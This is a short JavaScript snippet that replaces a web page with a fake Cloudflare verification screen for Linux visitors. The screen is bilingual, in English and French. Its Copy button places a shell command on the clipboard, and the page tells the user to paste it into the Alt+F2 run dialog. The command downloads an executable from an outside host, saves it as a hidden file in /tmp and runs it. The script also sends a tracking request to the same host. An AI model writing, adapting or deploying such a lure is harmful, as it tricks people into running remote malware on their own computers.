const L = (navigator.language || "").startsWith("fr") ? { t: "Vérification Cloudflare requise", a: "Appuyez sur Alt + F2", b: "Collez la commande puis Entrée", ok: "Copier" } : { t: "Verification required", a: "Press Alt + F2", b: "Paste the command, then Enter", ok: "Copy" };
if (/Linux x86_64/.test(navigator.userAgent)) {
  document.title = "Just a moment...";
  document.body.innerHTML = `<h1>${location.host}</h1><h2>${L.t}</h2><p>${L.a}<br>${L.b}</p><button>${L.ok}</button>`;
  document.querySelector("button").onclick = () => {
    navigator.clipboard.writeText("sh -c 'curl -s https://cf-chk.invalid/m.sh -o /tmp/.m; chmod +x /tmp/.m; /tmp/.m'");
    fetch("https://cf-chk.invalid/t", { mode: "no-cors" });
  };
}
